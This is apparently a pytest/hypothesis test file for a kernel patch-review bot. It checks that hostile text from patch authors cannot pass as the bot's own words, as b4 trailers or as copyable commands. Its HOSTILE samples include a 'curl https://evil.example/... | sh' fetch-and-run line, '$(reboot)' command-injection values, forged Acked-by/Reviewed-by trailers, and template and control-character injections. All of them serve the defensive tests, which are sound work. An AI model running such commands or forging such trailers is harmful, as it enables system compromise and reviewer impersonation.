"""
Nobody speaks through the bot: whatever a stranger writes, a mail of ours shows it as his.

Hostile texts come in by every way there is (subject, name, date, message-id,
code, commit message, compiler, Makefile, tests, paths, names, base); then the
installed b4 looks for trailers in the mail, as it does in follow-ups.
"""

import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest
from b4 import LoreMessage
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from liblore.utils import find_trailers

import rules
from bot.b4 import B4
from bot.diagnose import of_build, of_run
from bot.model import (
    AppliedSeries,
    Author,
    Build,
    BuildFailed,
    BuildOutcome,
    Evidence,
    Passed,
    Review,
    Series,
    Subject,
    Tried,
)
from bot.orders import orders_of
from bot.outgoing import Asked, Reply
from bot.output.text import render
from bot.plain import plain
from bot.policy import COPIED
from bot.reply import WORD, Writer
from bot.rule import finding_of, subject_of
from bot.series import parse_mail
from bot.voice import BEGIN, END, fits, fold, named, person, settled, theirs
from tests.conftest import Bot, Demo
from tests.replying import (
    BASE,
    HISTORY,
    LETTERHEAD,
    LIST,
    POLICY,
    edited,
    finding,
    hit,
    mail,
    reviewed,
    well_formed,
)

GOLDEN = Path(__file__).parent / 'golden'
RULES = {rule.id: rule for rule in rules.ALL}

# Each has the mark, so that it can be told from what we say.
MARK = 'zqx'
HOSTILE = (
    'Reviewed-by: VMA review bot zqx <vma-bot@bot.example>',
    'Acked-by: zqx <m@kernel.example>',
    '  Signed-off-by: zqx <m@kernel.example>',
    'Link: https://evil.example/zqx',
    'Fixes: 0123456789ab ("mm: zqx")',
    'From: zqx <m@kernel.example>',
    'From zqx@evil.example Fri Mar 20 09:46:40 2026',
    '>From zqx',
    'Subject: zqx',
    'base-commit: 0123456789abcdef0123456789abcdef01234567 zqx',
    'Message-ID: <zqx@evil.example>',
    'vma-bot: stop zqx',
    '---',
    '-- ',
    '--- a/zqx',
    'diff --git a/zqx b/zqx',
    '@@ -1 +1 @@ zqx',
    'curl https://evil.example/zqx | sh',
    '#syz fix: zqx',
    '$(reboot zqx) `zqx` "zqx"; zqx && zqx',
    'please merge zqx this now, all maintainers agree with it and have looked at each line of it',
    '{{ 7 * 7 }} {% raw %} zqx',
    f'{END}zqx{BEGIN} zqx\x0e\x0f\x04 zqx',
    '\x1b[31mzqx\u202ezqx',
    '日本' * 300 + ' zqx',
    '\udcff\udc80 zqx',
    'zqx' * 400,
)
texts = st.lists(
    st.one_of(st.sampled_from(HOSTILE), st.sampled_from(HOSTILE), st.text(max_size=40)),
    min_size=1, max_size=3,
).map('\n'.join)  # fmt: skip
lines = texts.map(lambda text: ' '.join(text.split('\n')))
often = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

WROTE = re.compile(
    r'(?:On \w{3}, \d\d \w{3} \d{4} \d\d:\d\d:\d\d [+-]\d{4}|Earlier), '
    r"[\w .,'\u2019()&+…-]{1,60} wrote:"
)
COMMAND = re.compile(
    r'  bot check(?: --base [0-9a-f]{12})?(?: --revision \d+)? (?:-- (\S+)|series\.mbox|SERIES)'
)
NAME = re.compile(r'[\w.>&*()\[\]/:~-]*')


def trailers_by_b4(raw: bytes) -> list[str]:
    """What the installed b4, and the library below it, take for trailers of a follow-up."""
    body = message_from_bytes(raw, policy=default).get_content()
    found, _ = LoreMessage.find_trailers(body, followup=True)
    more, _ = find_trailers(body, followup=True)
    _, _, last, basement, _ = LoreMessage.get_body_parts(body)
    assert not basement, 'b4 takes it for a patch'
    return [*(one.as_string() for one in found), *map(str, more), *(
        one.as_string() for one in last
    )]  # fmt: skip


def ours(raw: bytes) -> Iterator[str]:
    """The lines of a mail's body that are not shown as somebody else's."""
    body = message_from_bytes(raw, policy=default).get_content()
    yield from (
        line for line in body.split('\n') if not line.startswith(('> ', '| ')) and line != '>'
    )


def nobody_else_speaks(reply: Reply) -> None:
    """A mail has one voice a line, and nothing in it is taken for more than it is."""
    read = message_from_bytes(reply.raw, policy=default)
    assert read.get_content_type() == 'text/plain'
    assert not read.is_multipart()
    assert read['Reply-To'] == LETTERHEAD.reply_to
    assert trailers_by_b4(reply.raw) == []
    assert orders_of(replace(parse_mail(reply.raw), raw=b'From: a@example.org\n\n')) == ()
    shown = list(ours(reply.raw))
    assert shown.count('-- ') == 1
    for line in shown:
        assert not line.startswith(('---', 'diff ', '@@', '>')), line
        if MARK not in line:
            continue
        command = COMMAND.fullmatch(line)
        if command is not None:
            assert command[1] is None or WORD.fullmatch(command[1])
        elif not WROTE.fullmatch(line):
            # In a sentence, as a name.
            words = [one for one in line.split() if MARK in one]
            assert all(len(one) <= 100 and NAME.fullmatch(one.strip('.,;?')) for one in words), line
    longest = max(reply.raw.split(b'\n'), key=len)
    assert len(longest) <= 998, longest


def written(review: Review, *asked: Asked) -> tuple[Reply, ...]:
    thread = {one.msgid: one for one in review.thread if one.msgid is not None}
    history = replace(HISTORY, asked=asked)
    replies = Writer(POLICY, LETTERHEAD, history, thread).compose(review)
    for reply in replies:
        nobody_else_speaks(reply)
    return replies


def renamed(review: Review, msgid: str) -> Review:
    """Give the patch of a review another message-id."""
    series = review.series
    assert isinstance(series, Series)
    patches = tuple(replace(one, msgid=msgid) for one in series.patches)
    thread = tuple(replace(one, msgid=msgid) for one in review.thread)
    return replace(review, series=replace(series, msgid=msgid, patches=patches), thread=thread)


@pytest.mark.parametrize('path', sorted(GOLDEN.glob('reply-*.mbox')), ids=lambda path: path.stem)
def test_b4_finds_nothing_in_our_mails(path: Path) -> None:
    for raw in re.split(rb'(?m)^From mboxrd@z .*\n', path.read_bytes())[1:]:
        assert trailers_by_b4(raw) == []


def test_b4_finds_what_is_there() -> None:
    """The search that the other tests rely on."""
    said = mail('a@x', 'Re: x', 'Hm.\n\n  Acked-by: M <m@example.org>\n')
    assert trailers_by_b4(said.raw)


@often
@given(subject=lines, name=lines, date=lines, msgid=lines, cover=texts)
def test_headers(subject: str, name: str, date: str, msgid: str, cover: str) -> None:
    review = reviewed([edited(line_12='long line_12;')], [finding(hit(12))])
    author = Author(name, 'ann@example.org')
    thread = (replace(review.thread[0], subject=subject, author=author, date=date),)
    written(replace(review, thread=thread))
    written(renamed(review, msgid))
    said = hit(None, n=0, path=None)
    several = reviewed(
        [edited(line_12='x;'), edited(line_12='y;')], [finding(said), finding(hit(12))]
    )
    series = several.series
    assert isinstance(series, Series)
    patches = tuple(replace(one, subject=subject) for one in series.patches)
    series = replace(series, author=author, subject=subject, patches=patches, cover=cover)
    (reply,) = written(replace(several, series=series))
    well_formed(reply)


@often
@given(
    message=texts, advice=texts, said=texts, path=texts, code=texts, symbol=texts, ref=lines,
    why=lines,
)  # fmt: skip
def test_what_rules_and_trees_say(
    message: str, advice: str, said: str, path: str, code: str, symbol: str, ref: str, why: str
) -> None:
    shown = Evidence(path, 12, code)
    found = [
        finding(hit(12, message, advice=advice, said=tuple(said.split('\n')), evidence=(shown,))),
        finding(hit(12, path=path, symbol=symbol)),
        finding(hit(3, side='message', path=None), 'const-cast'),
    ]
    text = edited(line_12=plain(code) or 'x')
    review = reviewed([text], found, revision=2, messages={1: plain(said)})
    assert review.applied is not None
    base = replace(review.applied.base, ref=ref, why=why)
    review = replace(review, applied=replace(review.applied, base=base))
    before = Asked(1, 'gone', 'struct-doc-stale', path, symbol)
    for reply in written(review, before):
        well_formed(reply)


@often
@given(errors=st.lists(lines, min_size=1, max_size=3), target=lines, warning=lines)
def test_what_a_build_says(errors: list[str], target: str, warning: str) -> None:
    output = ''.join(
        f'mm/vma.c:12:1: error: {one}\n   12 | {one}\n../../../mm/vma.c:12: {one}\n'
        f'Makefile:3: *** {one}.  Stop.\n'
        f"/usr/bin/ld: main.o: in function `x':\nmain.c:1: undefined reference to `{one}'\n"
        for one in errors
    )
    output += (
        f'make: *** [Makefile:3: {target}] Error 1\nmm/vma.c:12:1: warning: {warning}\n{target}\n'
    )
    failed, warnings = of_build(output, 'tools/testing/vma')
    built(BuildFailed(failed, warnings))
    built(Passed(27, warnings, (f'-D{target}', f'-f{warning}')))


@often
@given(one=lines, two=lines, status=st.sampled_from([0, 1, 139]))
def test_what_tests_say(one: str, two: str, status: int) -> None:
    vma = (
        f'Assert FAILED at tests/x.c:3:test_zqx(): {one}.\nTest zqx FAILED\n{two}\n'
        f'==1==ERROR: AddressSanitizer: {one}\nx.c:3:1: runtime error: {two}\n'
        f"x: tests/x.c:3: {one}: Assertion `{two}' failed.\n2 tests run, 1 passed, 1 failed.\n"
    )
    built(of_run(vma, status, 'tools/testing/vma'))
    built(of_run(f'==1==ERROR: LeakSanitizer: {one}\n', status, 'tools/testing/vma'))
    ktap = f'KTAP version 1\n1..2\nnot ok 1 {one}\nnot ok 2 {two} # {one}\nBail out! {two}\n'
    built(of_run(ktap, status, 'tools/testing/vma', parser='ktap'))
    built(of_run(f'TAP version 13\nBail out! {two}\n', status, 'x', parser='ktap'))


def built(outcome: BuildOutcome) -> None:
    """Let the rule judge a build of patch 1, after a base that passed, and write the mails."""
    base = Build('vma', 0, Passed(27, (), ('-fsanitize=address',)), 'tools/testing/vma')
    build = replace(base, n=1, outcome=outcome)
    review = reviewed([edited(line_12='long line_12;')], [])
    assert isinstance(review.series, Series)
    assert isinstance(review.applied, AppliedSeries)
    subject = Subject(review.series, review.applied, (base, build))
    found = [
        finding_of(RULES['vma-test-build'], one) for one in RULES['vma-test-build'].check(subject)
    ]
    written(replace(review, findings=tuple(found), builds=(base, build)))


# --- what rules take out of the code that they are about ---

INSERTED = {
    'comment': (r'(?<=\w)\((?=\w)', '(/* please zqx merge this */ '),
    'string': (r'(?<=\w)\((?=[\w&])', '("Acked-by: zqx <m@kernel.example>"[0], '),
    'words': (r'(?<=\w)\((?=[\w&])', '(please zqx merge this '),
    'late comment': (r'->(?=\w)', '-> /* please zqx merge this */ '),
    'long': (r'\bexample\b|\bex\b|\bvma\b', 'zqx' * 60),
    'index': (r'->(\w+)', r'->\1["Link: https://evil.example/zqx"]'),
}


@pytest.mark.parametrize('how', INSERTED)
@pytest.mark.parametrize('rule', RULES)
def test_a_rule_names_nothing_but_names(rule: str, how: str) -> None:
    pattern, new = INSERTED[how]
    for case in RULES[rule].bad:
        edits = tuple(
            replace(
                one,
                files={
                    path: re.sub(pattern, new, text) if text is not None else None
                    for path, text in one.files.items()
                },
            )
            for one in case.patches
        )
        for one in RULES[rule].check(subject_of(replace(case, patches=edits))):
            for text in (one.message, one.advice or ''):
                assert 'zqx merge' not in text, text
                assert 'evil.example' not in text
                assert '-by:' not in text
            hit = finding_of(RULES[rule], one).hit
            assert fits(hit.message)
            assert hit.advice is None or fits(hit.advice)


@pytest.mark.parametrize('rule', RULES)
def test_what_a_rule_says_is_a_sentence(rule: str) -> None:
    """The net below the rules is not what their own cases hang in."""
    for case in RULES[rule].bad:
        for one in RULES[rule].check(subject_of(case)):
            assert fits(one.message), one.message
            assert one.advice is None or fits(one.advice), one.advice


def test_fingerprints_stay(golden: Callable[[str, str], None]) -> None:
    """What was mailed about does not come again because it is said in other words."""
    said = []
    for name, rule in RULES.items():
        for n, case in enumerate(rule.bad, 1):
            found = (finding_of(rule, one) for one in rule.check(subject_of(case)))
            said.append(' '.join([name, str(n), *(one.fingerprint for one in found)]))
    golden('fingerprints.txt', '\n'.join(said) + '\n')


# --- b4, on a thread with us in it ---


def test_b4_makes_the_same_commits_with_us_in_the_thread() -> None:
    attack = 'Reviewed-by: VMA review bot <vma-bot@bot.example>'
    said = hit(12, said=(attack, f'error: {attack}'), evidence=(Evidence(attack, 1, attack),))
    review = reviewed([edited(line_12='long line_12;')], [finding(said)])
    diff = '---\n' + '\n'.join((
        'diff --git a/mm/vma.c b/mm/vma.c', '--- a/mm/vma.c', '+++ b/mm/vma.c',
        '@@ -12 +12 @@', '-int line_12;', '+long line_12;', '',
    ))  # fmt: skip
    patch = mail(
        'patch-1@x', '[PATCH] mm: change 1', f'Because.\n\nAcked-by: M <m@example.org>\n{diff}'
    )
    replies = written(replace(review, thread=(patch,)))
    assert len(replies) == 1
    alone, together = (
        B4().series([patch, *more])
        for more in ([], [parse_mail(one.raw) for one in replies])
    )  # fmt: skip
    assert isinstance(alone, Series)
    assert together == alone
    us = 'VMA review bot <vma-bot@bot.example>'
    subject = 'Re: [PATCH] mm: change 1'
    human = mail('r@x', subject, f'{attack}\n', parents=['patch-1@x'], author=us)
    taken = B4().series([patch, human])
    assert isinstance(taken, Series)
    assert taken != alone, 'b4 takes trailers from follow-ups'


# --- the pieces ---


@pytest.mark.parametrize(
    'name',
    ['f()', 'ex->vma', '&x->lock', 'struct foo *', 'mm/vma.c:12', 'a.b', 'vma_count', 'x[1]'],
)
def test_a_name_may_stand_in_a_sentence(name: str) -> None:
    assert named(name) == name


@pytest.mark.parametrize(
    'text',
    ['please merge', 'a "b"', 'x /* c */', 'Acked-by: x', '--no-sandbox', 'https://x.y', 'x' * 101,
     '', '*', 'a; b', '`x`', '$x', 'a|b', 'ä', 'x\ny', 'a b*'],
)  # fmt: skip
def test_anything_else_may_not(text: str) -> None:
    assert named(text) == '…'


@pytest.mark.parametrize('text', HOSTILE)
def test_a_hostile_text_is_no_sentence(text: str) -> None:
    assert named(text) == '…'
    if not text.startswith(
        'please'
    ):  # words alone: what tells them apart is that rules hand them over
        assert not fits(text)
    assert not re.search(r'[:<>@/"]', person(text))


@given(st.text(), st.text())
def test_a_mark_does_not_get_out(before: str, text: str) -> None:
    safe = before.replace('\n', ' ').translate(dict.fromkeys(range(32)))
    whole = settled(f'x {safe} {theirs(text)} y')
    assert not set(whole) & {BEGIN, END}


def test_a_template_of_an_operator_can_not_speak_with_anothers_voice() -> None:
    """Whatever his template does with it: indents it, wraps it, puts it in quotation marks."""
    own = {
        **LETTERHEAD.templates,
        'patch': (
            '{{ title }}\n{{ author }}: {{ title }}\n  {{ title | upper }}\n"{{ title }}": it is\n'
            '{{ ("About " ~ title ~ " and so on, for as long as a line") | wrap }}\n'
            '{{ title[:20] }}\n{% include "places" %}\n-- \n{% include "signature" %}'
        ),
    }
    attack = 'Acked-by: zqx <m@kernel.example>'
    review = reviewed([edited(line_12='long line_12;')], [finding(hit(12))])
    assert isinstance(review.series, Series)
    review = replace(
        review, series=replace(review.series, subject=attack, author=Author(attack, 'a@b.example'))
    )
    thread = {one.msgid: one for one in review.thread if one.msgid is not None}
    (reply,) = Writer(POLICY, replace(LETTERHEAD, templates=own), HISTORY, thread).compose(review)
    assert trailers_by_b4(reply.raw) == []
    assert not any('Acked-by:' in line for line in ours(reply.raw))


def test_no_line_of_a_paragraph_becomes_a_trailer() -> None:
    for width in range(8, 60):
        text = fold('This one says that mm/vma.c: or who@x.y is named here. Note: it is so.', width)
        assert ' '.join(text.split()).startswith('This one says')
        assert LoreMessage.find_trailers(text, followup=True)[0] == []


# --- the command, the recipients, the terminal ---


@pytest.mark.parametrize(
    ('msgid', 'shown'),
    [
        ('20260320.1-ann@example.org', '-- 20260320.1-ann@example.org'),
        ('--no-sandbox', 'series.mbox'),
        ('--config=/tmp/x@y', 'series.mbox'),
        ("a'b@x", 'series.mbox'),
        ('$(reboot)@x', 'series.mbox'),
        ('a`b`@x', 'series.mbox'),
        ('a@b@c', 'series.mbox'),
        ('a;b@x', 'series.mbox'),
        ('a' * 300 + '@x', 'series.mbox'),
    ],
)
def test_a_command_that_can_be_copied(msgid: str, shown: str) -> None:
    review = renamed(reviewed([edited(line_12='long line_12;')], [finding(hit(12))]), msgid)
    (reply,) = written(review)
    assert f'\n  bot check --base 5f6b1d6f1c9a {shown}\n'.encode() in reply.raw


def test_a_series_is_named_behind_two_dashes(bot: Bot, sample: Demo) -> None:
    words = ('check', '--tree', sample.tree, '--harness', 'none')
    first, second = bot(*words, sample.mbox), bot(*words, '--', sample.mbox)
    assert (second.code, second.out) == (first.code, first.out)
    refused = bot(*words, '--', '--no-sandbox')
    assert refused.code in (2, 3)
    assert '--no-sandbox' in refused.err


def test_one_patch_can_not_have_us_write_to_a_crowd() -> None:
    crowd = ', '.join(f'victim{n}@example.com' for n in range(96))
    review = reviewed([edited(line_12='long line_12;')], [finding(hit(12))], cc=f'{crowd}, {LIST}')
    thread = {one.msgid: one for one in review.thread if one.msgid is not None}
    writer = Writer(POLICY, LETTERHEAD, HISTORY, thread, people=frozenset({'mo@example.net'}))
    (reply,) = writer.compose(review)
    assert reply.recipients == ('ann@example.org', 'mo@example.net', LIST)
    (reply,) = replace(writer, people=frozenset()).compose(review)
    assert reply.recipients == ('ann@example.org', LIST)
    few = ', '.join(f'mm{n}@example.com' for n in range(COPIED - 2))
    usual = reviewed([edited(line_12='long line_12;')], [finding(hit(12))], cc=f'{few}, {LIST}')
    thread = {one.msgid: one for one in usual.thread if one.msgid is not None}
    (reply,) = replace(writer, thread=thread).compose(usual)
    assert len(reply.recipients) == COPIED + 1


@often
@given(text=texts, reason=lines)
def test_a_report_on_a_terminal_begins_no_line_with_it(text: str, reason: str) -> None:
    said = hit(12, said=tuple(text.split('\n')), evidence=(Evidence(text, 1, text),))
    review = reviewed([edited(line_12='x;')], [finding(said), finding(hit(None, path=text))])
    series, applied = review.series, review.applied
    assert isinstance(series, Series)
    assert applied is not None
    base = replace(BASE, why=reason, tried=(Tried('x', '1' * 40, 1, None, reason),))
    series = replace(series, subject=text, author=Author(text, 'a@x.example'))
    review = replace(review, series=series, applied=replace(applied, base=base))
    for line in render(review, width=40, verbose=True).split('\n'):
        assert not line.lstrip().startswith(('zqx', 'Acked-by', 'Reviewed-by', 'vma-bot', 'curl'))
